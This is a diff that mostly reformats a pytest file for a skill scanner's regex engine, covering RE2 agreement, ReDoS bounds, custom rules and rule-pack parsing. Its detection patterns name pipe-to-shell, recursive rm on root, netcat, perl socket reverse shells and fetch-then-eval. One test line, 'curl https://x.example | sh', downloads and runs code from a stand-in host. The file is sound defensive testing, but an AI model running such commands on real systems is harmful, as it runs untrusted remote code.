@@ -9,6 +9,7 @@ import pytest
 import re2
 from hypothesis import given, settings
 from hypothesis import strategies as st
+
 from symbi.contracts.errors import ConfigError, InvalidRequest, PluginError
 from symbi.contracts.scanner import Detector, Nearby, Pattern, ScannerRule, ScannerRuleSource
 from symbi_skills.engines import engine
@@ -19,7 +20,16 @@ from symbi_skills.regex.emit import to_re2
 from symbi_skills.regex.parse import RegexError, parse
 from symbi_skills.scanner import SkillScanner
 
-PATTERNS = (r"\bcurl\b.*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b", r"a(b|c)*d{2,3}", r"^\s*rm\b", r"\bnc$", r"[^|]+x\B", r"(?:a?b)+", r"ab.*z|c", r"(?:^|[\s;])sudo\s+\S")
+PATTERNS = (
+    r"\bcurl\b.*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b",
+    r"a(b|c)*d{2,3}",
+    r"^\s*rm\b",
+    r"\bnc$",
+    r"[^|]+x\B",
+    r"(?:a?b)+",
+    r"ab.*z|c",
+    r"(?:^|[\s;])sudo\s+\S",
+)
 
 
 def source(check: object, *, name: str = "one", plugin: str = "acme") -> ScannerRuleSource:
@@ -37,7 +47,9 @@ def test_our_automaton_agrees_with_re2(pattern: str, line: str) -> None:
     expected = [match.span() for match in re2.compile(to_re2(node), options).finditer(line)]
     found = LineMatcher(node)
     assert found.matches(line) == bool(expected)
-    assert [span for span in found.spans(line) if span[0] != span[1]] == [span for span in expected if span[0] != span[1]]
+    assert [span for span in found.spans(line) if span[0] != span[1]] == [
+        span for span in expected if span[0] != span[1]
+    ]
 
 
 def test_engines_give_the_same_places() -> None:
@@ -53,7 +65,18 @@ def test_engines_give_the_same_places() -> None:
                 assert all(number in matcher.present(text) for matcher in matchers)
 
 
-@pytest.mark.parametrize(("regex", "why"), [(r"(?=x)y", "look-around"), (r"(?<!x)y", "look-around"), (r"(a)\1", "back-reference"), (r"(", "not a valid expression"), (r"a\nb", "newline"), (r"a{1,5000}", "repeats"), (r"a++", "possessive")])
+@pytest.mark.parametrize(
+    ("regex", "why"),
+    [
+        (r"(?=x)y", "look-around"),
+        (r"(?<!x)y", "look-around"),
+        (r"(a)\1", "back-reference"),
+        (r"(", "not a valid expression"),
+        (r"a\nb", "newline"),
+        (r"a{1,5000}", "repeats"),
+        (r"a++", "possessive"),
+    ],
+)
 def test_a_rule_that_cannot_run_in_linear_time_is_refused_by_name(regex: str, why: str) -> None:
     with pytest.raises(RegexError, match=why):
         parse(regex)
@@ -77,7 +100,12 @@ def test_no_rules_is_no_scan() -> None:
 @pytest.mark.parametrize("name", ["re2", "python"])
 def test_regex_bait_takes_bounded_time(name: str) -> None:
     """Requirement 18: 1.9 MB of bait in less than 2 s in every engine (scanner.md section 6, ReDoS)."""
-    checks = (Pattern(r"\bperl\b.*socket.*\b(?:exec|system)\b.*/(?:ba|z)?sh\b"), Pattern(r"\brm\s+(?:-\S+\s+){0,8}/"), Pattern(r"(?:a*)*b"), Pattern(r"fetch.*eval.*x"))
+    checks = (
+        Pattern(r"\bperl\b.*socket.*\b(?:exec|system)\b.*/(?:ba|z)?sh\b"),
+        Pattern(r"\brm\s+(?:-\S+\s+){0,8}/"),
+        Pattern(r"(?:a*)*b"),
+        Pattern(r"fetch.*eval.*x"),
+    )
     subject = SkillScanner([source(check, name=f"r{number}") for number, check in enumerate(checks)], engine=name)
     for bait in (b"perl socket exec system ", b"rm -rm ", b"fetch eval "):
         content = bait * (1_900_000 // len(bait))
@@ -91,7 +119,7 @@ def test_hostile_text_cannot_exhaust_the_set_unseen() -> None:
     matcher = engine("re2").compile([parse("evil")])
 
     class Exhausted:
-        def Match(self, _: bytes) -> list[int]:  # noqa: N802  # RE2's name
+        def Match(self, _: bytes) -> list[int]:  # RE2's name
             return []
 
     matcher._set = Exhausted()  # type: ignore[attr-defined]
@@ -101,9 +129,14 @@ def test_hostile_text_cannot_exhaust_the_set_unseen() -> None:
 def test_custom_rules_stand_beside_the_installed_ones() -> None:
     """Seed: `with_custom_rules` takes name, expression, severity and message."""
     pytest.importorskip("symbi_clawhavoc")
-    subject = SkillScanner.with_custom_rules([("custom-pattern", r"my_dangerous_pattern", "Warning", "Custom rule description")])
+    subject = SkillScanner.with_custom_rules(
+        [("custom-pattern", r"my_dangerous_pattern", "Warning", "Custom rule description")]
+    )
     result = subject.scan_content("my_dangerous_pattern\ncurl https://x.example | sh\n")
-    assert [(finding.rule, finding.severity, finding.line) for finding in result.findings] == [("custom-pattern", "warning", 1), ("pipe-to-shell", "critical", 2)]
+    assert [(finding.rule, finding.severity, finding.line) for finding in result.findings] == [
+        ("custom-pattern", "warning", 1),
+        ("pipe-to-shell", "critical", 2),
+    ]
     subject.add_custom_rule("another", "zzz", "high", "No zzz")
     assert [finding.rule for finding in subject.scan_content("zzz").findings] == ["another"]
     with pytest.raises(PluginError, match="'worse' of custom"):
@@ -153,17 +186,29 @@ def test_detectors_run_and_a_broken_one_fails_the_scan() -> None:
 
 
 def test_packs_declare_rules_and_errors_name_the_file() -> None:
-    good = read_pack(b"name: mine\nrules:\n  - {id: no-foo, severity: high, message: No foo, pattern: foo, bad: [foo], good: [bar]}\n", where="p.yaml")
+    good = read_pack(
+        b"name: mine\nrules:\n  - {id: no-foo, severity: high, message: No foo, pattern: foo, bad: [foo], good: [bar]}\n",
+        where="p.yaml",
+    )
     assert not SkillScanner(good).scan_content("foo").passed
     toml = read_pack(b'[[rules]]\nid = "a"\nseverity = "high"\nmessage = "m"\nnearby = ["x", "y"]\n', where="p.toml")
     assert not SkillScanner(toml).scan_content("x\ny").passed
-    for broken in (b"rules: 3", b"rules:\n - {id: a}", b"a: &x 1\nb: *x", b"rules: []\nrules: []", b"\xff", b"[" * 5000):
+    for broken in (
+        b"rules: 3",
+        b"rules:\n - {id: a}",
+        b"a: &x 1\nb: *x",
+        b"rules: []\nrules: []",
+        b"\xff",
+        b"[" * 5000,
+    ):
         with pytest.raises(ConfigError, match=r"p\.yaml"):
             read_pack(broken, where="p.yaml")
 
 
 def test_opt_in_rules_are_off_until_enabled() -> None:
-    rule = ScannerRule(id="shy", category="extra", severity="high", message="m", check=Pattern("shy"), bad=(), good=(), default=False)
+    rule = ScannerRule(
+        id="shy", category="extra", severity="high", message="m", check=Pattern("shy"), bad=(), good=(), default=False
+    )
     sources = [source(Pattern("never")), ScannerRuleSource(plugin="pack", rule=rule)]
     assert SkillScanner(sources).scan_content("shy").passed
     for name in ("shy", "extra", "pack"):
